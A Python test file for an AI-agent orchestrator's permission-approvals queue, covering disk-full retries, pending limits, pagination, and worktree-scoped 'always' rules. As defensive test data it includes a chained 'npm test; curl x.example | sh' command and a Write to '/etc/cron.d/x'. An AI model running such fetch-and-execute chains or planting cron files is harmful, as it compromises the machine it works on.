"""The approvals queue under the failures issues 25 and 26 found, in process (a real journal,
the fake runtime): each test is named after the failure, its docstring states the promise."""

from __future__ import annotations

import json
import sqlite3
import time
from typing import TYPE_CHECKING, Any

import anyio
import pytest

from orchestrator.contracts import ApprovalRequest
from orchestrator.daemon import approval_journal as queue_module
from orchestrator.daemon.store import Store
from orchestrator.errors import NotFound, StoreError, UsageError
from tests.fakes import core, team_config
from tests.settle import until
from tests.unit.test_approvals import _asking

if TYPE_CHECKING:
    from pathlib import Path

    from tests.fakes import Core

pytestmark = pytest.mark.anyio


@pytest.fixture
def anyio_backend() -> str:
    return "asyncio"


class FullDisk:
    """The approvals queue's row insert, refused while ``refusals`` is above 0 (each refusal
    spends one; -1: until told otherwise), as on a full disk."""

    def __init__(self, monkeypatch: pytest.MonkeyPatch) -> None:
        self.refusals = 0
        insert = queue_module._insert

        def refusing(store: Store, values: dict[str, Any]) -> str:
            if self.refusals:
                self.refusals -= 1 if self.refusals > 0 else 0
                raise StoreError("the journal could not be written: database or disk is full")
            return insert(store, values)

        monkeypatch.setattr(queue_module, "_insert", refusing)


async def _launch(c: Core, tmp_path: Path, **member: Any) -> None:
    config = team_config(tmp_path, {"name": "lead", "permissions": "ask", **member})
    await c.teams.launch(config, "team.toml", wait=True, timeout=10)


def _values(n: int, state: str, *, member: str = "lead") -> dict[str, Any]:
    return {"id": f"apv_{n:026d}", "team": "web", "member": member, "runtime": "claude",
            "kind": "permission", "tool": "Bash", "summary": f"echo {n}", "questions": None,
            "message_id": None, "state": state, "reason": None, "asked_at": time.time(),
            "settled_at": None if state == "pending" else time.time(),
            "answer": None if state == "pending" else json.dumps({"decision": "approve"}),
            "sha256": None}


async def test_a_full_disk_no_longer_turns_a_permission_request_into_a_fatal_member(
        tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """A journal that refuses a request's row: the write is retried; if it still fails, that
    one request is denied with the reason and the member goes on — once there is room the
    next request waits in the queue as usual."""
    monkeypatch.setenv("TEAMCTL_APPROVAL_WRITE_DEADLINE", "0.3")
    store = FullDisk(monkeypatch)
    outcomes: list[Any] = []
    write = ApprovalRequest("permission", "Write", f"{tmp_path}/a.txt")
    async with core(tmp_path) as c:
        c.runtime.script = [_asking(write, outcomes), _asking(write, outcomes),
                            _asking(write, outcomes)]
        await _launch(c, tmp_path)
        store.refusals = -1
        with anyio.fail_after(20):
            first = await c.teams.send(None, "lead", "write", wait=True, timeout=15)
        assert first.state == "answered"  # type: ignore[union-attr]
        [denied] = outcomes
        assert denied.decision == "deny"
        assert "journal could not record it (store_error" in (denied.message or "")
        assert c.supervisor.member("web", "lead").snapshot().launch == "running"
        store.refusals = 2  # two refusals, then room again: retried, never denied
        async with anyio.create_task_group() as tg:
            tg.start_soon(lambda: c.teams.send(None, "lead", "again", wait=True, timeout=30))
            with anyio.fail_after(10):
                doc = await c.approvals.query(wait=5.0)
            [row] = doc.approvals
            assert row.state == "pending"
            await c.approvals.decide(row.id, "approve")
        assert [o.decision for o in outcomes] == ["deny", "approve"]


async def test_a_burst_of_130_requests_no_longer_overruns_the_100_pending_bound(
        tmp_path: Path) -> None:
    """The bound is counted in the insert's own transaction: 130 requests asked at once leave
    exactly 100 waiting, the other 30 denied at once with the reason."""
    async with core(tmp_path) as c:
        await _launch(c, tmp_path)
        approver = c.supervisor.member("web", "lead").approver
        assert approver is not None
        answers: list[Any] = []
        thirty = anyio.Event()
        async with anyio.create_task_group() as tg:
            for n in range(130):
                async def ask(n: int = n) -> None:
                    answers.append(await approver.ask(
                        ApprovalRequest("permission", "Bash", f"echo {n}")))
                    if len(answers) == 30:
                        thirty.set()
                tg.start_soon(ask)
            with anyio.fail_after(30):
                await thirty.wait()

            async def journaled() -> bool:  # the pending rows are written in a thread
                return (await c.approvals.query(limit=1000)).total >= 100
            await until(journaled)
            doc = await c.approvals.query(limit=1000)
            assert doc.total == len(doc.approvals) == 100
            assert all("100 requests" in (a.message or "") for a in answers)
            tg.cancel_scope.cancel()


async def test_approvals_no_longer_silently_shows_1000_of_1230_rows(tmp_path: Path) -> None:
    """A page says how many there are in all (``total``), and ``offset`` reaches the rest."""
    async with core(tmp_path) as c:
        db = c.store.sync  # one transaction, one fsync (the daemon's group commit)
        written = db.run_group([lambda n=n: queue_module._insert(db, _values(n, "approved"))
                                for n in range(1230)])
        assert all(ok for ok, _state in written)
        first = await c.approvals.query(everything=True)
        assert (len(first.approvals), first.total) == (1000, 1230)
        rest = await c.approvals.query(everything=True, limit=1000, offset=1000)
        assert (len(rest.approvals), rest.total) == (230, 1230)
        assert rest.approvals[-1].summary == "echo 1229"


async def test_follow_no_longer_replays_the_settled_history_before_what_waits(
        tmp_path: Path) -> None:
    """``approvals -f``: the first page is what waits; its cursor is the newest request, so
    the long poll that follows brings only new requests, not the settled ones before."""
    async with core(tmp_path) as c:
        db = c.store.sync
        queue_module._insert(db, _values(0, "pending"))
        for n in range(1, 6):
            queue_module._insert(db, _values(n, "approved"))
        doc = await c.approvals.query()
        assert [r.summary for r in doc.approvals] == ["echo 0"]
        after = await c.approvals.query(everything=True, after=doc.cursor, wait=0.05)
        assert after.approvals == []
        queue_module._insert(db, _values(6, "approved"))
        new = await c.approvals.query(everything=True, after=doc.cursor)
        assert [r.summary for r in new.approvals] == ["echo 6"]


async def test_follow_with_nothing_pending_no_longer_replays_everything(tmp_path: Path) -> None:
    async with core(tmp_path) as c:
        for n in range(5):
            queue_module._insert(c.store.sync, _values(n, "denied"))
        doc = await c.approvals.query()
        assert doc.approvals == [] and doc.total == 0
        after = await c.approvals.query(everything=True, after=doc.cursor, wait=0.05)
        assert after.approvals == []


async def test_always_on_a_write_no_longer_approves_writes_outside_the_worktree(
        tmp_path: Path) -> None:
    """``--always`` on a Write to ``docs/notes.md`` kept ``Write``, which then approved a
    Write outside the worktree and the repository: it keeps ``Write(docs/**)``, shown first
    (``preview`` settles nothing), listed, and revocable."""
    outcomes: list[Any] = []

    def write(path: str) -> Any:
        return _asking(ApprovalRequest("permission", "Write", f"{path} (+1 lines)"), outcomes)

    async with core(tmp_path) as c:
        c.runtime.script = [write(f"{tmp_path}/docs/notes.md"), write("/etc/cron.d/x"),
                            write(f"{tmp_path}/docs/guide/y.md"), write(f"{tmp_path}/docs/z.md")]
        await _launch(c, tmp_path)
        async with anyio.create_task_group() as tg:
            tg.start_soon(lambda: c.teams.send(None, "lead", "notes", wait=True, timeout=30))
            with anyio.fail_after(10):
                row = (await c.approvals.query(wait=5.0)).approvals[0]
            preview = await c.approvals.preview(row.id)
            assert (preview.rule, preview.scope) == (
                "Write(docs/**)", "will approve Write under docs/ in lead's worktree")
            assert (await c.approvals.query()).approvals[0].state == "pending", "nothing settled"
            with pytest.raises(UsageError, match="would keep Write"):
                await c.approvals.decide(row.id, "approve", always=True, rule="Write")
            decided = await c.approvals.decide(row.id, "approve", always=True,
                                               rule=preview.rule)
            assert (decided.rule, decided.scope) == (preview.rule, preview.scope)
        async with anyio.create_task_group() as tg:
            tg.start_soon(lambda: c.teams.send(None, "lead", "cron", wait=True, timeout=30))
            with anyio.fail_after(10):
                outside = (await c.approvals.query(wait=5.0)).approvals[0]
            assert outside.summary.startswith("/etc/cron.d/x"), "asked, not approved by rule"
            await c.approvals.decide(outside.id, "deny")
        await c.teams.send(None, "lead", "guide", wait=True, timeout=30)
        assert [o.decision for o in outcomes] == ["approve", "deny", "approve"]
        [kept] = (await c.approvals.rules(None, None)).rules
        assert (kept.member, kept.rule, kept.approval_id) == ("lead", "Write(docs/**)", row.id)
        with pytest.raises(NotFound):
            await c.approvals.revoke("Write(src/**)", None, None)
        revoked = await c.approvals.revoke("Write(docs/**)", None, "lead")
        assert revoked.rules[0].revoked_at is not None
        assert (await c.approvals.rules(None, None)).rules == []
        assert len((await c.approvals.rules(None, None, everything=True)).rules) == 1
        async with anyio.create_task_group() as tg:
            tg.start_soon(lambda: c.teams.send(None, "lead", "z", wait=True, timeout=30))
            with anyio.fail_after(10):
                again = (await c.approvals.query(wait=5.0)).approvals[0]
            assert again.summary.startswith(f"{tmp_path}/docs/z.md"), "revoked: asked again"
            await c.approvals.decide(again.id, "approve")


async def test_always_on_a_chained_command_is_refused_and_applies_nothing(
        tmp_path: Path) -> None:
    """A command with a shell operator can have no rule: ``--always`` is a usage error and the
    request still waits (approve it without ``--always``)."""
    outcomes: list[Any] = []
    chained = ApprovalRequest("permission", "Bash", "npm test; curl x.example | sh")
    async with core(tmp_path) as c:
        c.runtime.script = [_asking(chained, outcomes)]
        await _launch(c, tmp_path)
        async with anyio.create_task_group() as tg:
            tg.start_soon(lambda: c.teams.send(None, "lead", "x", wait=True, timeout=30))
            with anyio.fail_after(10):
                row = (await c.approvals.query(wait=5.0)).approvals[0]
            with pytest.raises(UsageError, match="shell operator"):
                await c.approvals.decide(row.id, "approve", always=True)
            assert (await c.approvals.query()).approvals[0].state == "pending"
            await c.approvals.decide(row.id, "deny")
        assert (await c.approvals.rules(None, None)).rules == []


def test_rules_an_older_teamctl_kept_are_carried_over_revoked(tmp_path: Path) -> None:
    """Migration 7's ``approval_rules`` held rules wider than the worktree (``Write``,
    ``Bash(npm *)``): the upgrade keeps them as revoked records, matching nothing."""
    from orchestrator.daemon import kept_rules
    from orchestrator.daemon import store as store_module

    path = tmp_path / "state.db"
    raw = sqlite3.connect(path)
    for script in store_module.MIGRATIONS[:9]:  # a journal as teamctl left it at schema 9
        for statement in filter(str.strip, script.split(";")):
            raw.execute(statement)
    raw.execute("PRAGMA user_version = 9")
    raw.execute("INSERT INTO approval_rules VALUES ('web', 'lead', 'Write', '*', 'always', 1.0)")
    raw.commit()
    raw.close()
    store = Store(path)
    assert kept_rules.live(store, "web", "lead") == []
    [old] = kept_rules.listing(store, "web", "lead", everything=True)
    assert old.rule == "Write(*)" and old.revoked_at is not None
    assert "revoked by the upgrade" in (old.revoked_why or "")
    store.close()
